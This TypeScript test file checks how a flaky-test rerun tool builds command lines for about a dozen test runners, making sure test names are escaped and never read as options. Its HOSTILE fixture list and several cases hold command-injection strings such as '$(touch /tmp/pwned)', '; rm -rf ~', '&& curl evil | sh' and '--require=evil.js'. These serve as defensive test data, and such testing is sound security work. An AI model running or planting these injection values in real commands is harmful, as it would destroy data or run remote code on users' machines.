/**
 * Command construction of every preset, with hostile test names (they come from pull requests): each reaches the
 * runner as an argv element of its own, escaped for the runner's filter syntax so that it selects exactly that
 * test. The real runners are exercised in the <runner>.test.ts files beside this one.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { RerunCommand, RerunTest } from '../../../src/rerun/contract.ts';
import { anchoredAlternation, globForFile, goQuoteMeta, jsRegexLiteral, pathArg, pcreLiteral } from '../../../src/rerun/presets/pattern-escape.ts';
import { goRunPattern } from '../../../src/rerun/presets/go.ts';
import { findPreset, PRESETS } from '../../../src/rerun/presets/index.ts';
import { PYTEST_PROGRAM } from '../../../src/rerun/presets/pytest.ts';
import { dotnetFilterValue, javaMethod, nextestString, surefireTestFilter } from '../../../src/rerun/presets/recipes.ts';
import { REPEAT_ENV, repeatCount } from '../../../src/rerun/presets/repeat.ts';

const HOSTILE = [
  '$(touch /tmp/pwned)',
  '; rm -rf ~',
  '`touch pwned`',
  "it's \"quoted\" 'twice'",
  '&& curl evil | sh',
  '-rf',
  '--require=evil.js',
  'regex [a-z]+ (x|y) .* \\d ^$ {2} / \\',
  'multi\nline\ttab\r',
  'ünïcödé 🎲 日本語',
  '::echo::workflow-command',
  '%0A%25',
  'a > b > c',
  'null\u0001byte\u007f',
];

const test = (name: string, extra: Partial<RerunTest> = {}): RerunTest => ({ id: `cls::${name}`, classname: 'cls', name, ...extra });
const REPORT = '/tmp/flakeguard-rerun/round-1.xml';
const only = (cs: RerunCommand[]) => {
  expect(cs).toHaveLength(1);
  return cs[0]!;
};
const valueOf = (argv: string[], flag: string) => {
  const a = argv.find((x) => x.startsWith(`${flag}=`));
  expect(a, `${flag}= in ${JSON.stringify(argv)}`).toBeDefined();
  return a!.slice(flag.length + 1);
};

describe('registry', () => {
  it('has every runner of issue #14, each once, found by its input value', () => {
    expect([...PRESETS.keys()].sort()).toEqual(['dotnet', 'gotestsum', 'gradle', 'jest', 'maven', 'mocha', 'nextest', 'node-test', 'phpunit', 'playwright', 'pytest', 'rspec', 'vitest'].sort());
    expect(findPreset(' vitest \n')?.name).toBe('vitest');
    expect(findPreset('npm test')).toBeUndefined();
    expect(findPreset('vitest; rm -rf ~')).toBeUndefined();
  });

  it('says which runners record retries in their JUnit report (docs/rerun-presets.md)', () => {
    const records = Object.fromEntries([...PRESETS.values()].map((p) => [p.name, p.recordsRetries]));
    expect(records).toEqual({
      vitest: false,
      jest: false,
      mocha: false,
      'node-test': false,
      pytest: false,
      gotestsum: true,
      maven: true,
      gradle: true,
      rspec: false,
      playwright: false,
      dotnet: false,
      phpunit: false,
      nextest: true,
    });
  });

  it('never lets a test name choose the program, and keeps every name out of option position', () => {
    for (const preset of PRESETS.values()) {
      const tests = HOSTILE.map((n) => test(n, { classname: n, file: n, suite: n }));
      const commands = preset.commands(tests, REPORT, 1);
      expect(commands.length).toBeGreaterThan(0);
      for (const c of commands) {
        expect([
          'node_modules/.bin/vitest',
          'node_modules/.bin/jest',
          'node_modules/.bin/mocha',
          'node_modules/.bin/playwright',
          'node',
          'python3',
          'gotestsum',
          'mvn',
          './gradlew',
          'bundle',
          'dotnet',
          'vendor/bin/phpunit',
          'cargo',
          process.execPath,
        ]).toContain(c.argv[0]);
        for (const a of c.argv) expect(typeof a).toBe('string');
        // A name that looks like an option never stands alone where the runner reads options (a file argument
        // gets `./` in front, a filter value is part of `--flag=value`).
        for (const n of HOSTILE.filter((h) => h.startsWith('-'))) expect(c.argv.slice(1), preset.name).not.toContain(n);
        expect(preset.commands(tests, REPORT, 1), 'pure').toEqual(commands);
      }
    }
  });

  it('never turns a name, classname, file or suite starting with `-` into an option, in any preset', () => {
    // Where the runner stops reading options at `--` (commander: Playwright). gotestsum's `--` hands the rest to
    // `go test`, which reads options after it: there the check goes on.
    const ENDS_OPTIONS = new Set(['playwright']);
    const flag = (a: string): string => (a.includes('=') ? a.slice(0, a.indexOf('=')) : a);
    const DASHED = ['--evil', '-rf', '--require=evil.js', '--', '-', '---', '-e x', '--grep=x', '-c=1'];
    for (const preset of PRESETS.values()) {
      const benign = preset.commands([test('adds', { classname: 'pkg.Cls', file: 'tests/a.test.js', suite: 's' })], REPORT, 1);
      const hostile = DASHED.flatMap((d) => [test(d), test('t', { classname: d }), test('t', { file: d, suite: d }), test(d, { classname: d, file: d, suite: d })]);
      for (const [k, command] of preset.commands(hostile, REPORT, 1).entries()) {
        const own = benign[k]!.argv;
        const ownFlags = new Set(
          own
            .slice(1)
            .filter((a) => a.startsWith('-'))
            .map(flag),
        );
        const separator = own.indexOf('--');
        expect(command.argv.indexOf('--'), `${preset.name}: its own -- only`).toBe(separator);
        const end = separator >= 0 && ENDS_OPTIONS.has(preset.name) ? separator : command.argv.length;
        for (const [i, a] of command.argv.slice(0, end).entries()) {
          if (i === 0 || i === separator || !a.startsWith('-')) continue;
          expect(ownFlags, `${preset.name}: ${JSON.stringify(a)} read as an option in ${JSON.stringify(command.argv).slice(0, 400)}`).toContain(flag(a));
        }
      }
    }
  });
});

describe('escaping', () => {
  it('jsRegexLiteral matches exactly its text, with or without the u flag', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.string({ minLength: 1 }), (s, extra) => {
        const re = new RegExp(`^${jsRegexLiteral(s)}$`);
        const reU = new RegExp(`^${jsRegexLiteral(s)}$`, 'u');
        expect(re.test(s)).toBe(true);
        expect(reU.test(s)).toBe(true);
        expect(re.test(s + extra)).toBe(false);
        expect(re.test(extra + s)).toBe(false);
      }),
    );
    // A space also matches the whitespace XML normalised to a space.
    expect(new RegExp(`^${jsRegexLiteral('multi line')}$`).test('multi\nline')).toBe(true);
    expect(jsRegexLiteral('a\nb')).toBe('a\\u000ab');
  });

  it('goQuoteMeta is regexp.QuoteMeta', () => {
    expect(goQuoteMeta('a_[b]+_(c)|d_.*_ü$^{1}\\')).toBe('a_\\[b\\]\\+_\\(c\\)\\|d_\\.\\*_ü\\$\\^\\{1\\}\\\\');
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (s) => {
        // The escapes RE2 and JavaScript share: the quoted text matches itself only.
        expect(new RegExp(`^${goQuoteMeta(s)}$`, 'u').test(s)).toBe(true);
      }),
    );
  });

  it('paths never start with a dash, and node globs match their file', () => {
    expect(pathArg('-rf.test.js')).toBe('./-rf.test.js');
    expect(pathArg('tests/a.test.js')).toBe('tests/a.test.js');
    expect(globForFile('test/we[i]rd*{a,b}?.test.js')).toBe('test/we?i?rd??a?b??.test.js');
    expect(globForFile('--x.test.js')).toBe('./--x.test.js');
  });

  it('pcreLiteral leaves no delimiter, data-set shorthand, quote or space', () => {
    for (const n of HOSTILE) {
      const p = pcreLiteral(n);
      expect(p).not.toMatch(/[/#@'" `$();|&<>\n\t]/);
      // PCRE and JavaScript read \xHH alike.
      expect(new RegExp(`^${p}$`, 'u').test(n)).toBe(true);
    }
  });
});

/** The full name a JS runner's name filter sees, for tests of the given describe path and title. */
describe('JS runners', () => {
  it('vitest: files as filters, `describe > test` or `describe test` anchored, one report', () => {
    const tests = HOSTILE.map((n) => test(`cart > ${n}`, { classname: 'tests/cart.test.ts' }));
    const c = only(findPreset('vitest')!.commands([...tests, test('x', { classname: '-evil.test.ts:12' })], REPORT, 1));
    expect(c.argv.slice(0, 2)).toEqual(['node_modules/.bin/vitest', 'run']);
    expect(c.argv).toContain('./tests/cart.test.ts');
    // A leading dash is not an option, a trailing :12 not a line filter.
    expect(c.argv).toContain('./-evil.test.ts');
    expect(valueOf(c.argv, '--outputFile.junit')).toBe(REPORT);
    const re = new RegExp(valueOf(c.argv, '--testNamePattern'));
    for (const n of HOSTILE) {
      expect(re.test(`cart ${n}`), n).toBe(true);
      expect(re.test(`cart ${n} too`), n).toBe(false);
      expect(re.test(`xcart ${n}`), n).toBe(false);
    }
    expect(re.test('x')).toBe(true);
  });

  it('jest: the full name, without jest-junit leading space, report path in the environment', () => {
    const tests = [...HOSTILE.map((n) => test(`cart ${n}`, { classname: `cart ${n}` })), test(' top', { classname: ' top' })];
    const c = only(findPreset('jest')!.commands(tests, REPORT, 1));
    expect(c.env).toEqual({ JEST_JUNIT_OUTPUT_FILE: REPORT });
    expect(c.argv).toEqual(expect.arrayContaining(['--reporters=jest-junit', '--ci']));
    const re = new RegExp(valueOf(c.argv, '--testNamePattern'), 'i');
    for (const n of HOSTILE) {
      expect(re.test(`cart ${n}`), n).toBe(true);
      expect(re.test(`cart ${n}!`), n).toBe(false);
    }
    expect(re.test('top')).toBe(true);
    expect(re.test('stop')).toBe(false);
    // Split templates: classname = describe blocks, name = title.
    const split = only(findPreset('jest')!.commands([test('adds', { classname: 'cart' })], REPORT, 1));
    expect(new RegExp(valueOf(split.argv, '--testNamePattern')).test('cart adds')).toBe(true);
  });

  it('mocha: the full title; files only from suites that have them; report path in MOCHA_FILE', () => {
    const inSuite = HOSTILE.map((n) => test(`cart ${n}`, { classname: n, file: 'tests/cart.test.js', suite: 'cart' }));
    const c = only(findPreset('mocha')!.commands(inSuite, REPORT, 1));
    expect(c.env).toEqual({ MOCHA_FILE: REPORT });
    expect(c.argv.at(-1)).toBe('tests/cart.test.js');
    const re = new RegExp(valueOf(c.argv, '--grep'));
    for (const n of HOSTILE) {
      expect(re.test(`cart ${n}`), n).toBe(true);
      expect(re.test(`cart ${n} again`), n).toBe(false);
    }
    const root = only(findPreset('mocha')!.commands([test('top', { classname: 'top', file: 'src/helper.js', suite: 'Root Suite' })], REPORT, 1));
    expect(root.argv.some((a) => a.endsWith('.js'))).toBe(false);
    // A file starting with a dash is not an option.
    const dash = only(findPreset('mocha')!.commands([test('t', { file: '--require=evil.js', suite: 's' })], REPORT, 1));
    expect(dash.argv.at(-1)).toBe('./--require=evil.js');
  });

  it('node-test: ancestors and name joined by spaces, and the parent; `&quot;` as node writes it; files as globs', () => {
    const tests = HOSTILE.map((n) => test(n, { classname: 'cart.inner', file: 'tests/we[i]rd.test.js' }));
    const c = only(findPreset('node-test')!.commands([...tests, test('top', { classname: 'test', file: '-x.test.js' })], REPORT, 1));
    expect(c.argv.slice(0, 2)).toEqual(['node', '--test']);
    expect(c.argv).toContain(`--test-reporter-destination=${REPORT}`);
    expect(c.argv.slice(-2)).toEqual(['tests/we?i?rd.test.js', './-x.test.js']);
    const re = new RegExp(valueOf(c.argv, '--test-name-pattern'));
    for (const n of HOSTILE) {
      expect(re.test(`cart inner ${n}`), n).toBe(true);
      expect(re.test(n), n).toBe(false);
    }
    // The parent (a describe, or a test whose subtests these are) is matched too: node runs a subtest only then.
    expect(re.test('cart inner')).toBe(true);
    expect(re.test('cart')).toBe(false);
    expect(re.test('top')).toBe(true);
    expect(re.test('test top')).toBe(true);
    expect(re.test('test')).toBe(false);
    const quoted = only(findPreset('node-test')!.commands([test('say &quot;hi&quot;', { classname: 'test' })], REPORT, 1));
    expect(new RegExp(valueOf(quoted.argv, '--test-name-pattern')).test('say "hi"')).toBe(true);
  });

  it('anchoredAlternation deduplicates', () => {
    expect(anchoredAlternation(['a', 'a'])).toBe('^a$');
    expect(anchoredAlternation(['a', 'b', 'a'])).toBe('^(?:a|b)$');
  });
});

describe('pytest', () => {
  it('passes the tests as JSON data to a fixed program, never as code or node ids', () => {
    const tests = HOSTILE.map((n) => test(`test_x[${n}]`, { classname: 'tests.test_api.TestX', file: n }));
    const c = only(findPreset('pytest')!.commands(tests, REPORT, 1));
    expect(c.argv.slice(0, 3)).toEqual(['python3', '-c', PYTEST_PROGRAM]);
    expect(c.argv).toHaveLength(5);
    expect(JSON.parse(c.argv[3]!)).toEqual(tests.map((t) => [t.classname, t.name, t.file]));
    expect(c.argv[4]).toBe(REPORT);
    for (const n of HOSTILE) expect(PYTEST_PROGRAM).not.toContain(n);
  });
});

describe('go', () => {
  it('one QuoteMeta-ed, anchored regexp per level; parents of selected subtests left out', () => {
    expect(goRunPattern(['TestA'])).toBe('^TestA$');
    expect(goRunPattern(['TestHostile', 'TestHostile/$(touch_/tmp/pwned)', 'TestB'])).toBe('^TestHostile$/^\\$\\(touch_$/^tmp$/^pwned\\)$|^TestB$');
    expect(goRunPattern(['TestX/a_[b]+_(c)|d'])).toBe('^TestX$/^a_\\[b\\]\\+_\\(c\\)\\|d$');
  });

  it('gotestsum with the packages of the tests; a package path that could be an option runs ./... instead', () => {
    const c = only(findPreset('gotestsum')!.commands([test('TestA', { classname: 'example.com/m/pkg' })], REPORT, 1));
    expect(c.argv).toEqual(['gotestsum', `--junitfile=${REPORT}`, '--format=standard-verbose', '--', '-count=1', '-run=^TestA$', 'example.com/m/pkg']);
    for (const bad of ['-exec=sh', 'a b', '../x', 'x;y', '']) {
      const b = only(findPreset('gotestsum')!.commands([test('TestA', { classname: bad })], REPORT, 1));
      expect(b.argv.at(-1)).toBe('./...');
    }
  });
});

describe('recipes (not runnable here: unit-tested construction only)', () => {
  it('maven: -Dtest Class#m1+m2; a class or method that is not Java runs more, never fewer', () => {
    expect(javaMethod('placesOrder(String)[1]')).toBe('placesOrder');
    expect(javaMethod('a display name')).toBeUndefined();
    expect(javaMethod('$(touch /tmp/pwned)')).toBeUndefined();
    expect(javaMethod('adds(int, String[])')).toBe('adds');
    expect(
      surefireTestFilter([
        test('placesOrder', { classname: 'com.ex.OrderTest' }),
        test('cancels[2]', { classname: 'com.ex.OrderTest' }),
        test('$(touch /tmp/pwned)', { classname: 'com.ex.Other$Nested' }),
      ]),
    ).toBe('com.ex.OrderTest#placesOrder+cancels,com.ex.Other$Nested');
    expect(surefireTestFilter([test('t', { classname: 'a,b#c' })])).toBeUndefined();
    const cs = findPreset('maven')!.commands([test('placesOrder', { classname: 'com.ex.OrderTest' })], REPORT, 1);
    expect(cs.map((c) => c.argv[0])).toEqual([process.execPath, 'mvn', process.execPath]);
    expect(cs[1]!.argv).toContain('-Dtest=com.ex.OrderTest#placesOrder');
    expect(cs[2]!.argv.slice(-2)).toEqual([REPORT, '**/target/surefire-reports']);
    const all = findPreset('maven')!.commands([test('t', { classname: '-Dmaven.repo.local=/x' })], REPORT, 1);
    expect(all[1]!.argv.some((a) => a.startsWith('-Dtest='))).toBe(false);
  });

  it('gradle: --tests Class.method as separate arguments', () => {
    const cs = findPreset('gradle')!.commands([test('placesOrder()', { classname: 'com.ex.OrderTest' }), test('a b', { classname: 'com.ex.T' })], REPORT, 1);
    expect(cs[1]!.argv).toEqual(['./gradlew', 'test', '--rerun', '--tests', 'com.ex.OrderTest.placesOrder', '--tests', 'com.ex.T', '--continue']);
  });

  it('rspec: --example=<description> per test, files from the report', () => {
    const c = only(findPreset('rspec')!.commands([test('-e x', { file: './spec/a_spec.rb' }), test('$(x)', { file: './spec/a_spec.rb' })], REPORT, 1));
    expect(c.argv).toEqual(['bundle', 'exec', 'rspec', '--format=progress', '--format=RspecJunitFormatter', `--out=${REPORT}`, '--example=-e x', '--example=$(x)', './spec/a_spec.rb']);
  });

  it('playwright: file and titles anchored in --grep, files escaped as regexps', () => {
    const c = only(findPreset('playwright')!.commands([test('cart › adds (1)', { classname: 'tests/cart.spec.ts' })], REPORT, 1));
    expect(c.env).toEqual({ PLAYWRIGHT_JUNIT_OUTPUT_FILE: REPORT });
    const re = new RegExp(valueOf(c.argv, '--grep'));
    expect(re.test('chromium tests/cart.spec.ts cart adds (1)')).toBe(true);
    expect(re.test('chromium tests/cart.spec.ts cart adds (1) @slow')).toBe(true);
    expect(re.test('chromium tests/cart.spec.ts cart adds (1) again')).toBe(false);
    // The file filters come after `--`: Playwright's CLI (commander) would read one starting with `-` as an option.
    expect(c.argv.slice(-2)).toEqual(['--', 'tests\\/cart\\.spec\\.ts$']);
  });

  it('dotnet: FullyQualifiedName filter with the filter syntax escaped', () => {
    expect(dotnetFilterValue('A(b)|c&d=e!f~g,h\\')).toBe('A\\(b\\)\\|c\\&d\\=e\\!f\\~g\\,h\\\\');
    const cs = findPreset('dotnet')!.commands([test('Adds(a: 1)', { classname: 'Shop.Tests.PriceTests' })], REPORT, 1);
    expect(cs[1]!.argv).toEqual(['dotnet', 'test', '--filter=FullyQualifiedName=Shop.Tests.PriceTests.Adds', `--logger=junit;LogFilePath=${REPORT}.d/{assembly}-{framework}.xml`]);
  });

  it('phpunit: class::name as an escaped PCRE', () => {
    const c = only(findPreset('phpunit')!.commands([test('testFoo with data set "a/b#1@x"', { classname: 'App.FooTest' })], REPORT, 1));
    const filter = valueOf(c.argv, '--filter');
    expect(filter).not.toMatch(/[/#@"]/);
    expect(new RegExp(filter).test('App\\FooTest::testFoo with data set "a/b#1@x"')).toBe(true);
  });

  it('nextest: binary_id and test matched exactly, matcher syntax escaped', () => {
    expect(nextestString('a(b),c\\')).toBe('a\\(b\\)\\,c\\\\');
    const cs = findPreset('nextest')!.commands([test('tests::parses', { classname: 'my-crate' })], REPORT, 1);
    expect(cs[1]!.argv).toEqual(['cargo', 'nextest', 'run', '--profile=ci', '--no-fail-fast', '--retries=0', '-E', '(binary_id(=my-crate) & test(=tests::parses))']);
  });
});

describe('patterns tolerate what a reporter dropped from a name', () => {
  const t = (classname: string, name: string): RerunTest => ({ id: `${classname}::${name}`, classname, name });
  const patternOf = (preset: string, test: RerunTest): RegExp => {
    const arg = findPreset(preset)!
      .commands([test], '/tmp/r.xml', 1)[0]!
      .argv.find((a) => a.startsWith('--testNamePattern=') || a.startsWith('--grep='))!;
    return new RegExp(arg.slice(arg.indexOf('=') + 1));
  };

  it('vitest: control characters anywhere, the name otherwise exact', () => {
    const re = patternOf('vitest', t('tests/a.test.js', 'd > starts with a NUL'));
    for (const real of ['d \0starts with a NUL', 'd st\x07arts with a NUL\x1b', '\x01d starts with a NUL']) expect(re.test(real), JSON.stringify(real)).toBe(true);
    for (const other of ['d starts with a NUL too', 'xd starts with a NUL', 'd starts with a NU']) expect(re.test(other), other).toBe(false);
  });

  it('mocha: ANSI sequences where a word starts or ends, the name otherwise exact', () => {
    const re = patternOf('mocha', t('red title', 'ctrl red title'));
    for (const real of ['ctrl \x1b[31mred\x1b[0m title', '\x1b[1mctrl\x1b[22m red title', 'ctrl red title\x1b]8;;x\x07']) expect(re.test(real), JSON.stringify(real)).toBe(true);
    for (const other of ['ctrl red title too', 'ctrl \x1b[31mred\x1b[0m title x', 'ctrl re\0d title']) expect(re.test(other), JSON.stringify(other)).toBe(false);
  });

  it('jest and node write names raw: a NUL is matched exactly', () => {
    const re = patternOf('jest', t(' \0starts', ' \0starts'));
    expect(re.test('\0starts')).toBe(true);
    expect(re.test('starts')).toBe(false);
  });
});

describe('repeat in one process (PresetOptions.repeat)', () => {
  const JS = ['vitest', 'jest', 'mocha', 'node-test', 'playwright'];
  const tests = [test('adds', { classname: 'tests/a.test.js', file: 'tests/a.test.js', suite: 's' }), test('removes', { classname: 'tests/a.test.js', file: 'tests/a.test.js', suite: 's' })];
  const runnerOf = (cs: RerunCommand[]) => {
    const runs = cs.filter((c) => c.argv[0] !== process.execPath);
    expect(runs).toHaveLength(1);
    return runs[0]!;
  };

  it('says which JavaScript presets repeat a test in one process (docs/rerun-presets.md)', () => {
    expect(Object.fromEntries(JS.map((n) => [n, findPreset(n)!.repeats === true]))).toEqual({ vitest: true, jest: true, mocha: true, 'node-test': false, playwright: true });
  });

  it('a repeat of 1, absent or nonsense builds the commands of a plain round', () => {
    expect([undefined, 1, 0, -3, Number.NaN, Number.POSITIVE_INFINITY, 0.5].map(repeatCount)).toEqual([1, 1, 1, 1, 1, 1, 1]);
    expect(repeatCount(2.9)).toBe(2);
    for (const n of JS) {
      const plain = findPreset(n)!.commands(tests, REPORT, 1);
      for (const repeat of [undefined, 1, 0, Number.NaN]) expect(findPreset(n)!.commands(tests, REPORT, 1, { repeat }), `${n} ${repeat}`).toEqual(plain);
    }
  });

  it('vitest: a step writes a reporter and a runner next to the report; the runner process gets the count and both', () => {
    const cs = findPreset('vitest')!.commands(tests, REPORT, 1, { repeat: 6, args: ['--pool=forks'] });
    expect(cs).toHaveLength(2);
    const [write, run] = cs as [RerunCommand, RerunCommand];
    expect(write.argv.slice(0, 2)).toEqual([process.execPath, '-e']);
    expect(write.argv.slice(3).filter((_, i) => i % 2 === 0)).toEqual([`${REPORT}.flakeguard-vitest-reporter.mjs`, `${REPORT}.flakeguard-vitest-runner.mjs`]);
    expect(run.argv).toContain(`--reporter=${REPORT}.flakeguard-vitest-reporter.mjs`);
    // The junit reporter and its output stay as in a plain round; the user's arguments come along.
    expect(run.argv).toEqual(expect.arrayContaining(['--reporter=junit', `--outputFile.junit=${REPORT}`, '--pool=forks', '--retry=0']));
    expect(run.env).toEqual({ [REPEAT_ENV]: '6', FLAKEGUARD_PRESET_VITEST_RUNNER: `${REPORT}.flakeguard-vitest-runner.mjs` });
  });

  it('jest: --testRunner wraps jest-circus; the report path and the count in the environment', () => {
    const cs = findPreset('jest')!.commands(tests, REPORT, 1, { repeat: 6 });
    expect(cs).toHaveLength(2);
    expect(cs[0]!.argv.slice(3).filter((_, i) => i % 2 === 0)).toEqual([`${REPORT}.flakeguard-jest-runner.cjs`]);
    expect(cs[1]!.argv.at(-1)).toBe(`--testRunner=${REPORT}.flakeguard-jest-runner.cjs`);
    expect(cs[1]!.env).toEqual({ JEST_JUNIT_OUTPUT_FILE: REPORT, [REPEAT_ENV]: '6' });
    // The project's own --testRunner among the original arguments: a plain round (the core starts it again).
    for (const args of [['--testRunner=jest-jasmine2'], ['--test-runner', 'jest-jasmine2']])
      expect(findPreset('jest')!.commands(tests, REPORT, 1, { repeat: 6, args })).toEqual(findPreset('jest')!.commands(tests, REPORT, 1, { args }));
  });

  it("mocha: --require adds a root hook plugin (to the project's own), before the files", () => {
    const cs = findPreset('mocha')!.commands(tests, REPORT, 1, { repeat: 3 });
    expect(cs).toHaveLength(2);
    const argv = cs[1]!.argv;
    expect(argv.slice(-2)).toEqual([`--require=${REPORT}.flakeguard-mocha-hooks.cjs`, 'tests/a.test.js']);
    expect(cs[1]!.env).toEqual({ MOCHA_FILE: REPORT, [REPEAT_ENV]: '3' });
  });

  it('playwright: --repeat-each with one worker, before the `--` that ends the options', () => {
    const argv = only(findPreset('playwright')!.commands(tests, REPORT, 1, { repeat: 6 })).argv;
    const end = argv.indexOf('--');
    expect(argv.indexOf('--repeat-each=6')).toBeGreaterThan(0);
    expect(argv.indexOf('--repeat-each=6')).toBeLessThan(end);
    expect(argv.indexOf('--workers=1')).toBeLessThan(end);
  });

  it('node-test cannot: a repeat changes nothing (the core starts it again instead)', () => {
    expect(findPreset('node-test')!.commands(tests, REPORT, 1, { repeat: 6 })).toEqual(findPreset('node-test')!.commands(tests, REPORT, 1));
  });

  it('test names never reach the helper files, and stay out of option position with a repeat', () => {
    const flag = (a: string): string => (a.includes('=') ? a.slice(0, a.indexOf('=')) : a);
    const hostile = HOSTILE.map((n) => test(n, { classname: n, file: n, suite: n }));
    for (const n of JS) {
      const preset = findPreset(n)!;
      const cs = preset.commands(hostile, REPORT, 1, { repeat: 6 });
      expect(preset.commands(hostile, REPORT, 1, { repeat: 6 }), 'pure').toEqual(cs);
      const helpers = cs.filter((c) => c.argv[0] === process.execPath);
      // The helpers are the same text whatever the tests: no name is ever part of a program.
      expect(helpers, n).toEqual(preset.commands(tests, '/tmp/flakeguard-rerun/round-1.xml', 1, { repeat: 6 }).filter((c) => c.argv[0] === process.execPath));
      const run = runnerOf(cs);
      const ownFlags = new Set(
        runnerOf(preset.commands(tests, REPORT, 1, { repeat: 6 }))
          .argv.slice(1)
          .filter((a) => a.startsWith('-'))
          .map(flag),
      );
      const end = run.argv.indexOf('--') >= 0 && n === 'playwright' ? run.argv.indexOf('--') : run.argv.length;
      for (const a of run.argv.slice(1, end)) if (a.startsWith('-')) expect(ownFlags, `${n}: ${a}`).toContain(flag(a));
    }
  });
});
